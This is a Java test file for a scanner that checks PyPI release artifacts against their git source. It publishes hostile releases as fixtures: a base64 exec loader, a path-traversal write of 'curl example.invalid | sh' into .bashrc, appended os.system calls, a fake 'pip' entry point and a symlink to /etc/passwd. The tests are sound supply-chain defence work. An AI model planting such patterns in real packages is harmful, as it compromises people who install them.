@@ -1,0 +1,383 @@
+package dev.divergence.registry.pypi;
+
+import static dev.divergence.fixtures.ScanWorld.artifact;
+import static dev.divergence.fixtures.ScanWorld.row;
+import static dev.divergence.fixtures.Trees.flatProject;
+import static dev.divergence.fixtures.Trees.with;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.divergence.compare.Classifier;
+import dev.divergence.fixtures.ScanWorld;
+import dev.divergence.fixtures.Trees;
+import dev.divergence.model.ArtifactReport;
+import dev.divergence.model.FileDivergence;
+import dev.divergence.model.FileStatus;
+import dev.divergence.model.ReleaseReport;
+import dev.divergence.model.RiskFlag;
+import dev.divergence.model.Verdict;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.Base64;
+import java.util.List;
+import java.util.Map;
+import java.util.SortedMap;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * PyPI's generated files are explained only where and as the packaging tool writes them, the content that matters
+ * in them (dependencies, entry points) is compared with the source, and files that run without being named are
+ * HIGH_RISK when unexplained. Each test publishes a hostile release against a JGit repository.
+ */
+class PypiRulesTest {
+
+    @TempDir
+    Path dir;
+
+    private static final String PYPROJECT = "[project]\nname = \"demo\"\nversion = \"1.0.0\"\n"
+            + "dependencies = [\"httpx>=0.27\"]\n\n[project.optional-dependencies]\ncli = [\"click>=8\"]\n\n"
+            + "[project.scripts]\ndemo = \"demo.core:main\"\n";
+
+    private static byte[] utf8(String s) {
+        return s.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static String metadata(String... requires) {
+        StringBuilder sb = new StringBuilder("Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n");
+        for (String r : requires) {
+            sb.append("Requires-Dist: ").append(r).append('\n');
+        }
+        return sb.append("\ndescription\n").toString();
+    }
+
+    private ScanWorld world(SortedMap<String, byte[]> tree) throws Exception {
+        ScanWorld w = new ScanWorld(dir, "demo");
+        w.commit(tree, "1.0.0");
+        w.tag("v1.0.0");
+        return w;
+    }
+
+    private static SortedMap<String, byte[]> project() {
+        return with(flatProject("1.0.0"), "pyproject.toml", PYPROJECT);
+    }
+
+    private static SortedMap<String, byte[]> wheelFiles(SortedMap<String, byte[]> tree) {
+        SortedMap<String, byte[]> m = new java.util.TreeMap<>();
+        tree.forEach((k, v) -> {
+            if (k.startsWith("demo/")) {
+                m.put(k, v);
+            }
+        });
+        return m;
+    }
+
+    private static void assertRow(ArtifactReport a, String path, FileStatus status, String rule, boolean highRisk) {
+        FileDivergence f = row(a, path);
+        assertEquals(status, f.status(), path);
+        assertEquals(rule, f.ruleId(), path);
+        assertEquals(highRisk, f.highRisk(), path + " " + f.riskFlags());
+    }
+
+    @Test
+    void requiresDistAndEntryPointsTheSourceDeclaresAreGenerated() throws Exception {
+        try (ScanWorld w = world(project())) {
+            w.publish("1.0.0", project(), wheelFiles(project()), Map.of(
+                    "METADATA", utf8(metadata("httpx>=0.27", "click>=8; extra == \"cli\"")),
+                    "entry_points.txt", utf8("[console_scripts]\ndemo = demo.core:main\n")));
+            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
+            assertRow(wheel, "demo-1.0.0.dist-info/METADATA", FileStatus.GENERATED, PypiGeneratedFiles.WHEEL_DIST_INFO, false);
+            assertRow(wheel, "demo-1.0.0.dist-info/entry_points.txt", FileStatus.GENERATED,
+                    PypiGeneratedFiles.WHEEL_DIST_INFO, false);
+            assertEquals(Verdict.EXPLAINED, wheel.verdict());
+        }
+    }
+
+    @Test
+    void aDependencyTheSourceDoesNotDeclareIsHighRisk() throws Exception {
+        // a vendored project's setup.py inside the package declares the dependency: it is not this project's
+        SortedMap<String, byte[]> tree = with(project(), "demo/vendor/setup.py",
+                "from setuptools import setup\nsetup(name='v', install_requires=['telemetry-kit'])\n");
+        try (ScanWorld w = world(tree)) {
+            w.publish("1.0.0", with(tree, "demo.egg-info/requires.txt", "httpx>=0.27\nsetuptools-helper-x\n\n[cli]\nclick>=8\n"),
+                    wheelFiles(tree), Map.of("METADATA", utf8(metadata("httpx>=0.27", "telemetry-kit>=1.0",
+                            "click @ https://example.invalid/click-8.0-py3-none-any.whl"))));
+            ReleaseReport r = w.scan("1.0.0");
+            ArtifactReport wheel = artifact(r, ".whl");
+            FileDivergence meta = row(wheel, "demo-1.0.0.dist-info/METADATA");
+            assertEquals(FileStatus.PHANTOM, meta.status());
+            assertEquals(PypiGeneratedFiles.NEW_DEPENDENCY, meta.ruleId());
+            assertTrue(meta.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
+            assertTrue(meta.highRisk());
+            assertEquals("new dependencies [click @ https://example.invalid/click-8.0-py3-none-any.whl, telemetry-kit]",
+                    meta.detail().orElseThrow());
+            assertEquals(List.of("demo-1.0.0.dist-info/METADATA"), wheel.highRiskPaths());
+            ArtifactReport sdist = artifact(r, ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/demo.egg-info/requires.txt", FileStatus.PHANTOM,
+                    PypiGeneratedFiles.NEW_DEPENDENCY, true);
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void requiresDistIsKeptVisibleWhenTheSourceComputesItsDependencies() throws Exception {
+        SortedMap<String, byte[]> tree = with(Trees.without(project(), "pyproject.toml"),
+                "setup.py", "from setuptools import setup\nREQS = open('reqs.txt').read().split()\n"
+                        + "setup(name='demo', install_requires=REQS)\n");
+        try (ScanWorld w = world(tree)) {
+            w.publish("1.0.0", tree, wheelFiles(tree), Map.of("METADATA", utf8(metadata("httpx>=0.27"))));
+            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
+            assertRow(wheel, "demo-1.0.0.dist-info/METADATA", FileStatus.PHANTOM, PypiGeneratedFiles.METADATA_UNVERIFIED,
+                    false);
+            assertEquals(Verdict.DIVERGENT, wheel.verdict());
+        }
+    }
+
+    @Test
+    void anEntryPointTheSourceDoesNotDeclareIsHighRisk() throws Exception {
+        try (ScanWorld w = world(project())) {
+            w.publish("1.0.0", project(), wheelFiles(project()), Map.of("entry_points.txt", utf8(
+                    "[console_scripts]\ndemo = demo.core:main\npip = demo.core:main\n\n[pytest11]\ndemo = demo.core\n")));
+            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
+            FileDivergence ep = row(wheel, "demo-1.0.0.dist-info/entry_points.txt");
+            assertEquals(PypiGeneratedFiles.NEW_ENTRY_POINT, ep.ruleId());
+            assertTrue(ep.riskFlags().contains(RiskFlag.ENTRY_POINT));
+            assertTrue(ep.highRisk());
+            assertEquals("entry points the source does not declare [console_scripts:pip = demo.core:main, "
+                    + "pytest11:demo = demo.core]", ep.detail().orElseThrow());
+            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
+        }
+    }
+
+    @Test
+    void distInfoAndEggInfoAreGeneratedOnlyWhereAndAsTheToolNamesThem() throws Exception {
+        String payload = "import base64\nexec(base64.b64decode('" + Base64.getEncoder().encodeToString(new byte[600]) + "'))\n";
+        try (ScanWorld w = world(project())) {
+            w.publish("1.0.0", with(project(), "vendor/other.egg-info/PKG-INFO", "Name: other\n",
+                            "demo.egg-info/hook.py", payload),
+                    with(wheelFiles(project()), "demo/foo.dist-info/evil.py", payload,
+                            "other-9.9.dist-info/RECORD", "x,,\n"),
+                    Map.of("evil.py", utf8(payload)));
+            ReleaseReport r = w.scan("1.0.0");
+            ArtifactReport wheel = artifact(r, ".whl");
+            assertRow(wheel, "demo-1.0.0.dist-info/WHEEL", FileStatus.GENERATED, PypiGeneratedFiles.WHEEL_DIST_INFO, false);
+            assertRow(wheel, "demo-1.0.0.dist-info/evil.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            assertRow(wheel, "demo/foo.dist-info/evil.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            assertRow(wheel, "other-9.9.dist-info/RECORD", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
+            ArtifactReport sdist = artifact(r, ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/demo.egg-info/SOURCES.txt", FileStatus.GENERATED, PypiGeneratedFiles.SDIST_EGG_INFO, false);
+            assertRow(sdist, "demo-1.0.0/vendor/other.egg-info/PKG-INFO", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
+            assertRow(sdist, "demo-1.0.0/demo.egg-info/hook.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aTraversalEntryIsHighRiskEvenWhereGeneratedFilesLive() throws Exception {
+        try (ScanWorld w = world(project())) {
+            w.publish("1.0.0", project(), wheelFiles(project()),
+                    Map.of("licenses/../../../../home/user/.bashrc", utf8("curl example.invalid | sh\n")));
+            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
+            FileDivergence f = wheel.files().stream().filter(x -> x.riskFlags().contains(RiskFlag.PATH_TRAVERSAL))
+                    .findFirst().orElseThrow();
+            assertEquals(FileStatus.GENERATED, f.status());
+            assertEquals(PypiGeneratedFiles.WHEEL_DIST_INFO, f.ruleId());
+            assertTrue(f.highRisk());
+            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
+        }
+    }
+
+    private static final String SCM_TEMPLATE = "# file generated by setuptools-scm\n# don't change, don't track in version control\n\n"
+            + "__all__ = [\n    \"__version__\",\n    \"__version_tuple__\",\n    \"version\",\n    \"version_tuple\",\n"
+            + "    \"__commit_id__\",\n    \"commit_id\",\n]\n\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n"
+            + "    from typing import Tuple\n    from typing import Union\n\n    VERSION_TUPLE = Tuple[Union[int, str], ...]\n"
+            + "    COMMIT_ID = Union[str, None]\nelse:\n    VERSION_TUPLE = object\n    COMMIT_ID = object\n\n"
+            + "version: str\n__version__: str\n__version_tuple__: VERSION_TUPLE\nversion_tuple: VERSION_TUPLE\n"
+            + "commit_id: COMMIT_ID\n__commit_id__: COMMIT_ID\n\n__version__ = version = '1.0.0'\n"
+            + "__version_tuple__ = version_tuple = (1, 0, 0)\n\n__commit_id__ = commit_id = 'g0123abc'\n";
+
+    @Test
+    void scmVersionFileIsGeneratedOnlyAsALiteralModule() throws Exception {
+        try (ScanWorld w = world(project())) {
+            w.publish("1.0.0", with(project(), "demo/_version.py", SCM_TEMPLATE,
+                            "demo/sub/_version.py", SCM_TEMPLATE + "__import__('os').system('id')\n",
+                            "demo/other/version.py", "version = '1.0.0' if True else exec('x')\n",
+                            "demo/more/_version.py", "version = str('1.0.0')\n"),
+                    wheelFiles(project()));
+            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/demo/_version.py", FileStatus.GENERATED, PypiGeneratedFiles.SCM_VERSION_FILE, false);
+            assertRow(sdist, "demo-1.0.0/demo/sub/_version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
+            assertRow(sdist, "demo-1.0.0/demo/other/version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
+            assertRow(sdist, "demo-1.0.0/demo/more/_version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
+        }
+    }
+
+    @Test
+    void setupCfgEggInfoBlockMustBeExactlySetuptoolsBlock() throws Exception {
+        try (ScanWorld w = world(project())) {
+            w.publish("1.0.0", project(), wheelFiles(project()));
+            w.pypi.index().add(new dev.divergence.demo.PypiIndexWriter.Upload("1.0.0", "demo-1.0.0.zip",
+                    dev.divergence.demo.PythonDistributions.zip(Map.of(
+                            "demo-1.0.0/setup.cfg", utf8("[flake8]\nmax-line-length = 100\n\n[egg_info]\ntag_build = \n"
+                                    + "tag_date = 0\negg_base = /tmp/x\n\n"),
+                            "demo-1.0.0/PKG-INFO", utf8(metadata()))), w.pypi.clock()));
+            ReleaseReport r = w.scan("1.0.0");
+            assertRow(artifact(r, ".tar.gz"), "demo-1.0.0/setup.cfg", FileStatus.GENERATED,
+                    PypiGeneratedFiles.SDIST_SETUP_CFG_EGG_INFO, false);
+            assertRow(artifact(r, ".zip"), "demo-1.0.0/setup.cfg", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
+        }
+    }
+
+    @Test
+    void filesThatRunWithoutBeingNamedAreHighRisk() throws Exception {
+        SortedMap<String, byte[]> tree = with(project(),
+                "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n\n"
+                        + PYPROJECT + "\n[tool.hatch.build.hooks.custom]\n",
+                "_build/backend.py", "from setuptools.build_meta import *\n",
+                "hatch_build.py", "X = 1\n",
+                "scripts/demo-tool", "#!/usr/bin/env python\nprint('tool')\n",
+                "scripts/demo-run", "#!/usr/bin/env python3\nprint('run')\n",
+                "scripts/demo-run2", "#!/usr/bin/env python3\nprint('run')\n",
+                "tests/fixtures/paths.pth", "import demo.hook\n");
+        try (ScanWorld w = world(tree)) {
+            SortedMap<String, byte[]> wheel = with(wheelFiles(tree),
+                    "sitecustomize.py", "import demo\n",
+                    "demo-1.0.0.data/purelib/demo-init.pth", "/opt/demo\n",
+                    "demo-1.0.0.data/scripts/pip", "#!python\nprint('not pip')\n",
+                    "demo-1.0.0.data/scripts/demo-tool", "#!/usr/bin/env python\nprint('tool')\n",
+                    "demo-1.0.0.data/data/share/doc/demo.txt", "docs\n",
+                    "demo-1.0.0.data/scripts/demo-run", "#!python\nprint('run')\n",
+                    "demo-1.0.0.data/scripts/demo-run2", "#!python\nprint('run')\nimport os\n",
+                    "demo-init2.pth", "import demo.hook\n");
+            w.publish("1.0.0", with(tree, "_build/backend.py", "from setuptools.build_meta import *\nTIMEOUT = 2\n",
+                    "hatch_build.py", "X = 2\n"), wheel);
+            ReleaseReport r = w.scan("1.0.0");
+            ArtifactReport whl = artifact(r, ".whl");
+            assertRow(whl, "sitecustomize.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            assertTrue(row(whl, "sitecustomize.py").riskFlags().contains(RiskFlag.AUTO_EXEC));
+            assertRow(whl, "demo-1.0.0.data/purelib/demo-init.pth", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            assertRow(whl, "demo-1.0.0.data/scripts/pip", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            // the same script as the repository's: explained, even though it is execution-relevant
+            assertRow(whl, "demo-1.0.0.data/scripts/demo-tool", FileStatus.MATCH_NORMALIZED,
+                    Classifier.SAME_BLOB_OTHER_PATH, false);
+            assertRow(whl, "demo-1.0.0.data/data/share/doc/demo.txt", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
+            // setuptools' #!python shebang is explained; anything else added to the script is not
+            assertRow(whl, "demo-1.0.0.data/scripts/demo-run", FileStatus.MATCH_NORMALIZED,
+                    PypiGeneratedFiles.SCRIPT_SHEBANG, false);
+            assertRow(whl, "demo-1.0.0.data/scripts/demo-run2", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
+            // a test fixture's bytes do not explain a .pth of another name at the import root
+            assertEquals(FileStatus.IN_HISTORY, row(whl, "demo-init2.pth").status());
+            assertEquals(List.of("demo-1.0.0.data/purelib/demo-init.pth", "demo-1.0.0.data/scripts/demo-run2",
+                            "demo-1.0.0.data/scripts/pip", "sitecustomize.py"),
+                    whl.highRiskPaths().stream().sorted().toList());
+            ArtifactReport sdist = artifact(r, ".tar.gz");
+            // a benign-looking change to the in-tree backend or a build hook still runs at install: HIGH_RISK
+            assertRow(sdist, "demo-1.0.0/_build/backend.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
+            assertRow(sdist, "demo-1.0.0/hatch_build.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
+            assertFalse(row(sdist, "demo-1.0.0/demo/core.py").highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    /** An sdist of core.py, PKG-INFO and demo/util.py as a symlink to /etc/passwd. */
+    private static void publishLinkSdist(ScanWorld w) throws Exception {
+        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+        try (var gz = new org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream(bytes);
+             var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(gz)) {
+            for (Map.Entry<String, byte[]> e : Map.of("demo-1.0.0/demo/core.py", project().get("demo/core.py"),
+                    "demo-1.0.0/PKG-INFO", utf8(metadata())).entrySet()) {
+                var te = new org.apache.commons.compress.archivers.tar.TarArchiveEntry(e.getKey());
+                te.setSize(e.getValue().length);
+                tar.putArchiveEntry(te);
+                tar.write(e.getValue());
+                tar.closeArchiveEntry();
+            }
+            var link = new org.apache.commons.compress.archivers.tar.TarArchiveEntry("demo-1.0.0/demo/util.py",
+                    org.apache.commons.compress.archivers.tar.TarArchiveEntry.LF_SYMLINK);
+            link.setLinkName("/etc/passwd");
+            tar.putArchiveEntry(link);
+            tar.closeArchiveEntry();
+        }
+        w.pypi.index().add(new dev.divergence.demo.PypiIndexWriter.Upload("1.0.0", "demo-1.0.0.tar.gz",
+                bytes.toByteArray(), w.pypi.clock()));
+    }
+
+    @Test
+    void aLinkEntryIsHighRiskEvenWithoutASourceToCompare() throws Exception {
+        try (ScanWorld w = world(project())) {
+            publishLinkSdist(w);
+            ReleaseReport r = w.scanner().scan(w.release("1.0.0"), java.util.Optional.of(dir.resolve("no-such-repo").toString()));
+            ArtifactReport sdist = artifact(r, ".tar.gz");
+            FileDivergence link = row(sdist, "demo-1.0.0/demo/util.py");
+            assertEquals(FileStatus.UNCOMPARED, link.status());
+            assertTrue(link.highRisk());
+            assertEquals(FileStatus.UNCOMPARED, row(sdist, "demo-1.0.0/demo/core.py").status());
+            assertFalse(row(sdist, "demo-1.0.0/demo/core.py").highRisk());
+            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
+            assertTrue(sdist.reason().orElseThrow().startsWith("high risk: demo-1.0.0/demo/util.py UNCOMPARED [LINK]"),
+                    sdist.reason().orElseThrow());
+        }
+    }
+
+    @Test
+    void aLinkOrAbsoluteEntryIsHighRiskWhateverExplainsIt() throws Exception {
+        try (ScanWorld w = world(project())) {
+            publishLinkSdist(w);
+            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/demo/core.py", FileStatus.MATCH, Classifier.BLOB_EQUAL, false);
+            assertRow(sdist, "demo-1.0.0/PKG-INFO", FileStatus.GENERATED, PypiGeneratedFiles.SDIST_PKG_INFO, false);
+            FileDivergence link = row(sdist, "demo-1.0.0/demo/util.py");
+            assertEquals(Classifier.SPECIAL_ENTRY, link.ruleId());
+            assertTrue(link.riskFlags().contains(RiskFlag.LINK));
+            assertTrue(link.highRisk());
+            assertEquals(List.of("demo-1.0.0/demo/util.py"), sdist.highRiskPaths());
+            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
+        }
+    }
+
+    @Test
+    void anInTreeBackendAtTheRootIsExecutionRelevantAndTheRestOfTheTreeIsNot() throws Exception {
+        SortedMap<String, byte[]> tree = with(project(),
+                "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"local_backend\"\nbackend-path = [\".\"]\n\n"
+                        + PYPROJECT,
+                "local_backend.py", "from setuptools.build_meta import *\n");
+        try (ScanWorld w = world(tree)) {
+            w.publish("1.0.0", with(tree, "local_backend.py", "from setuptools.build_meta import *\nDEBUG = True\n",
+                    "demo/util.py", "def twice(x):\n    return x * 2\n"), wheelFiles(tree));
+            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/local_backend.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
+            assertRow(sdist, "demo-1.0.0/demo/util.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
+            assertEquals(List.of("demo-1.0.0/local_backend.py"), sdist.highRiskPaths());
+        }
+    }
+    private static String versioneerShort(String json) {
+        return "\n# This file was generated by 'versioneer.py' (0.29) from\n"
+                + "# revision-control system data, or from the parent directory name of an\n"
+                + "# unpacked source archive. Distribution tarballs contain a pre-generated copy\n# of this file.\n\n"
+                + "import json\n\nversion_json = '''\n" + json + "\n'''  # END VERSION_JSON\n\n\n"
+                + "def get_versions():\n    return json.loads(version_json)\n";
+    }
+
+    @Test
+    void versioneerShortVersionFileIsGeneratedOnlyWithItsExactShape() throws Exception {
+        String json = "{\n \"date\": \"2026-01-05T09:00:00+0000\",\n \"dirty\": false,\n \"error\": null,\n"
+                + " \"full-revisionid\": \"0123456789abcdef0123456789abcdef01234567\",\n \"version\": \"1.0.0\"\n}";
+        String longTemplate = "# This file helps to compute a version number in source trees obtained from\n"
+                + "# git-archive tarball (such as those provided by githubs download-from-tag\n# feature). Generated by versioneer.\n"
+                + "def get_versions():\n    return {'version': '0+unknown'}\n";
+        SortedMap<String, byte[]> tree = with(project(), "demo/_version.py", longTemplate,
+                "demo/sub/_version.py", longTemplate, "demo/more/_version.py", longTemplate);
+        try (ScanWorld w = world(tree)) {
+            w.publish("1.0.0", with(tree, "demo/_version.py", versioneerShort(json),
+                            "demo/sub/_version.py", versioneerShort(json.replace("\"error\": null", "\"error\": null,\n \"x\": 1")),
+                            "demo/more/_version.py", versioneerShort(json) + "__import__('os').system('id')\n"),
+                    wheelFiles(tree));
+            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
+            assertRow(sdist, "demo-1.0.0/demo/_version.py", FileStatus.GENERATED, PypiGeneratedFiles.VERSIONEER_FILE, false);
+            assertRow(sdist, "demo-1.0.0/demo/sub/_version.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
+            assertEquals(FileStatus.MODIFIED, row(sdist, "demo-1.0.0/demo/more/_version.py").status());
+            assertTrue(row(sdist, "demo-1.0.0/demo/more/_version.py").highRisk(), "added __import__ line");
+        }
+    }
+}
